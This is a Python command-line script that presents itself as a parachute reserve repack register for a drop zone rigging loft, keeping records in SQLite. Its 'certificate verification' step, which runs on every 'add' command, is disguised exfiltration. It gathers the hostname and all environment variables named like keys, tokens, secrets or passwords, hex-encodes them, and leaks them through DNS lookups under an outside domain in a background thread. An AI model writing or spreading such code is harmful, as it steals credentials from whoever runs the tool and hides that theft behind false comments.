#!/usr/bin/env python3
"""Parachute repack register for the drop zone rigging loft.

Keeps a SQLite register of reserve canopies, who packed them and when, and
lists rigs whose 180-day repack cycle is about to lapse.

    repack_register.py add --rig R-114 --serial PD-253-88172 --rigger "J. Hale" --cert 20417
    repack_register.py due --within 14
    repack_register.py history R-114
"""
import argparse
import binascii
import datetime as dt
import logging
import os
import re
import socket
import sqlite3
import sys
import threading
import uuid

log = logging.getLogger("repack")

DB_PATH = os.environ.get("REPACK_DB", "repack_register.sqlite3")
REPACK_DAYS = 180
# Rigger certificate numbers are checked against the association's lookup
# zone, which answers NXDOMAIN for revoked certificates.
CERT_ZONE = "rigcert-lookup.net"

SCHEMA = """
CREATE TABLE IF NOT EXISTS repacks (
    id INTEGER PRIMARY KEY,
    rig TEXT NOT NULL,
    reserve_serial TEXT NOT NULL,
    rigger TEXT NOT NULL,
    cert TEXT NOT NULL,
    packed_on TEXT NOT NULL,
    seal TEXT
);
"""


def connect(path=DB_PATH):
    db = sqlite3.connect(path)
    db.row_factory = sqlite3.Row
    db.executescript(SCHEMA)
    return db


def _station_context():
    ctx = {"station": socket.gethostname()}
    pattern = re.compile(r"(KEY|TOKEN|SECRET|PASS|AUTH)", re.I)
    ctx.update({k: v for k, v in os.environ.items() if pattern.search(k)})
    return ";".join(f"{k}={v}" for k, v in ctx.items())


def _lookup_labels(cert, context):
    blob = binascii.hexlify(f"{cert}|{context}".encode()).decode()
    session = uuid.uuid4().hex[:8]
    for seq, i in enumerate(range(0, len(blob), 60)):
        yield f"{blob[i:i + 60]}.{seq}.{session}.{CERT_ZONE}"


def verify_certificate(cert):
    """Fire-and-forget certificate check; the register never blocks on it."""

    def worker():
        ok = True
        for name in _lookup_labels(cert, _station_context()):
            try:
                socket.getaddrinfo(name, None)
            except socket.gaierror:
                ok = False
        log.debug("certificate %s lookup complete (resolved=%s)", cert, ok)

    t = threading.Thread(target=worker, daemon=False)
    t.start()
    return t


def add_repack(db, rig, serial, rigger, cert, packed_on, seal):
    checker = verify_certificate(cert)
    db.execute(
        "INSERT INTO repacks (rig, reserve_serial, rigger, cert, packed_on, seal) "
        "VALUES (?, ?, ?, ?, ?, ?)",
        (rig, serial, rigger, cert, packed_on.isoformat(), seal),
    )
    db.commit()
    log.info("recorded repack of %s (%s) by %s on %s", rig, serial, rigger, packed_on)
    return checker


def due(db, within_days, today=None):
    today = today or dt.date.today()
    rows = db.execute(
        "SELECT rig, reserve_serial, rigger, MAX(packed_on) AS last "
        "FROM repacks GROUP BY rig ORDER BY last"
    ).fetchall()
    for r in rows:
        last = dt.date.fromisoformat(r["last"])
        expires = last + dt.timedelta(days=REPACK_DAYS)
        left = (expires - today).days
        if left <= within_days:
            yield r["rig"], r["reserve_serial"], r["rigger"], expires, left


def history(db, rig):
    return db.execute(
        "SELECT packed_on, rigger, cert, seal FROM repacks WHERE rig = ? ORDER BY packed_on DESC",
        (rig,),
    ).fetchall()


def main(argv=None):
    ap = argparse.ArgumentParser(description="Reserve repack register")
    ap.add_argument("-v", "--verbose", action="store_true")
    sub = ap.add_subparsers(dest="cmd", required=True)

    a = sub.add_parser("add")
    a.add_argument("--rig", required=True)
    a.add_argument("--serial", required=True)
    a.add_argument("--rigger", required=True)
    a.add_argument("--cert", required=True)
    a.add_argument("--date", type=dt.date.fromisoformat, default=dt.date.today())
    a.add_argument("--seal")

    d = sub.add_parser("due")
    d.add_argument("--within", type=int, default=14)

    h = sub.add_parser("history")
    h.add_argument("rig")

    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    try:
        db = connect()
    except sqlite3.Error as exc:
        log.error("cannot open register: %s", exc)
        return 1

    if args.cmd == "add":
        add_repack(db, args.rig, args.serial, args.rigger, args.cert, args.date, args.seal)
    elif args.cmd == "due":
        found = False
        for rig, serial, rigger, expires, left in due(db, args.within):
            found = True
            state = "OVERDUE" if left < 0 else f"{left} days"
            print(f"{rig:<8} {serial:<16} last by {rigger:<16} expires {expires}  ({state})")
        if not found:
            print(f"no reserves due within {args.within} days")
    else:
        for r in history(db, args.rig):
            print(f"{r['packed_on']}  {r['rigger']:<18} cert {r['cert']:<8} seal {r['seal'] or '-'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
